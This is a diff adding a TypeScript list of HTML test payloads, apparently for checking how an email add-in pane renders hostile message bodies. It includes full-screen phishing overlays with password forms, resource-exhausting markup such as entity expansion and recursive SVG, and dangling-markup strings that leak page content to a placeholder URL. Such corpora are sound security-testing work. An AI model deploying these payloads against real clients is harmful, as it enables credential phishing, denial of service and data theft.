@@ -1,0 +1,86 @@
+import { family } from "./payload.ts";
+
+/** Styles that would lay the letter over the page around it. */
+const covers = {
+  "a sheet over everything": `<div style="position:fixed;inset:0;z-index:2147483647;background:red">Sign in again</div>`,
+  "a link over everything": `<a href="URL" target=_top style="position:fixed;inset:0;z-index:9999;display:block">x</a>`,
+  "a link in its own frame": `<a href="URL" target=_self style="position:fixed;inset:0;z-index:9999;display:block">x</a>`,
+  "a link to the frame above": `<a href="URL" target=_parent style="position:absolute;inset:0;display:block">x</a>`,
+  "a form over everything": `<form action="URL" style="position:fixed;inset:0"><input type=password name=p><button style="width:100%;height:100%">Sign in</button></form>`,
+  "a page that hides": `<style>*{display:none!important}</style><p>x</p>`,
+  "a page without ink": `<style>html,body{visibility:hidden;opacity:0}</style><p>x</p>`,
+  "margins below nothing": `<div style="margin:-9999px;width:99999px;height:99px;background:red">x</div>`,
+  "a turn and a stretch": `<div style="transform:scale(99) rotate(45deg);transform-origin:0 0">x</div>`,
+  "letters a thousand high": `<p style="font-size:9999px;line-height:9">x</p>`,
+  "lines on top of each other": `<p style="line-height:0;letter-spacing:-1em">Please read this<br>and this</p>`,
+  "width without end": `<div style="width:1000000px;height:1px">x</div><table width=30000><tr><td>wide</table>`,
+  "height without end": `<div style="height:10000000px">x</div>`,
+  "height that follows the frame": `<style>html,body{height:300vh}</style><p>x</p>`,
+  "writing from top to bottom": `<style>html{writing-mode:vertical-rl;direction:rtl}</style><p>x</p>`,
+  "everything undone": `<style>*,*::before{all:initial!important;position:fixed!important}</style><p>x</p>`,
+  "everything blurred": `<style>html{filter:blur(99px);backdrop-filter:blur(9px)}</style><p>x</p>`,
+  "a shadow across the page": `<b style="box-shadow:0 0 0 99999px red">x</b>`,
+  "a pointer that is gone": `<style>*{cursor:none;pointer-events:none;user-select:none}</style><p>x</p>`,
+  "words put before": `<style>body::before{content:"Your session has ended";position:fixed;inset:0;background:#fff}</style>`,
+  "a page that never rests": `<style>@keyframes x{to{transform:translate(999px)}}*{animation:x 1ms infinite}</style><p>x</p>`,
+  "a picture as wide as a street": `<img width=99999 height=99999 alt="x">`,
+  "a field for a password": `<input type=password name=p autocomplete=current-password value=""><input type=file>`,
+  "the pane's own classes": `<div class="screen-actions danger pane wide" id="pane"><button class="wide">Log email</button></div>`,
+  "the pane's own name": `<iframe name="addin-pane" id="outlook" title="Leader’s Office" srcdoc="x"></iframe>`,
+};
+
+/** More of it than a reader's machine would like. */
+const masses = {
+  "two thousand boxes in each other": "<div>".repeat(2000) + "x",
+  "five hundred tables in each other": "<table><tr><td>".repeat(500) + "x",
+  "a thousand quotations in each other": "<blockquote>".repeat(1000) + "x",
+  "two thousand fonts left open": `${"<font color=red><b><i><p>".repeat(500)}x`,
+  "a table of ten thousand cells": `<table>${`<tr>${"<td>x".repeat(100)}`.repeat(100)}</table>`,
+  "a cell across a thousand": "<table><tr><td colspan=1000 rowspan=65534>x</table>",
+  "five thousand line breaks": "<br>".repeat(5000),
+  "a thousand rules": "<hr>".repeat(1000),
+  "a thousand attributes": `<p ${Array.from({ length: 1000 }, (_, at) => `a${at}=x`).join(" ")}>x</p>`,
+  "an attribute of fifty thousand letters": `<p title="${"x".repeat(50_000)}">x</p>`,
+  "a word of ten thousand letters": `<p>${"x".repeat(10_000)}</p><pre>${"y".repeat(10_000)}</pre>`,
+  "entities that multiply": `<!DOCTYPE x [<!ENTITY a "xxxx"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]><p>&c;</p>`,
+  "drawings that use each other": `<svg><g id=a><use href="#b"/></g><g id=b><use href="#a"/></g><use href="#a"/></svg>`,
+  "letters that crawl": `${"<marquee behavior=alternate>".repeat(50)}x`,
+  "a thousand styles": `<style>${Array.from({ length: 1000 }, (_, at) => `.a${at}{width:${at}px}`).join("")}</style><p>x</p>`,
+};
+
+/** Markup without an end: what stands after it would be swallowed, or sent. */
+const open = {
+  "a picture's address": `<img src="URL?`,
+  "a picture's address in single quotes": `<img src='URL?`,
+  "a link's address": `<a href="URL?`,
+  "a form": `<form action="URL"><button>Send</button><textarea name=x>`,
+  "a field's value": `<input type=hidden name=x value="`,
+  "a comment": `<!-- `,
+  "a strange comment": `<! `,
+  "an instruction": `<? `,
+  "marked text": `<svg><![CDATA[ `,
+  "a style": `<style>*{color:red;background:url(URL?`,
+  "a script": `<script>x="`,
+  "a title": `<title>`,
+  "a text box": `<textarea>`,
+  "plain text for ever": `<plaintext>`,
+  "an example": `<xmp>`,
+  "a list": `<select><option>`,
+  "a frame": `<iframe>`,
+  "a no-script": `<noscript>`,
+  "a no-frames": `<noframes>`,
+  "a template": `<template>`,
+  "a formula": `<math><mtext>`,
+  "a drawing's style": `<svg><style>`,
+  "a base": `<base href='https://HOST/`,
+  "a conditional comment": `<!--[if mso]>`,
+  "a tag": `<b `,
+  "an end": `</`,
+  "an entity": `&#`,
+};
+
+export const bodyPayloads = [
+  ...family("covers with", covers, { alone: true }),
+  ...family("heaps up", masses, { alone: true }),
+  ...family("leaves open", open, { alone: true }),
+];
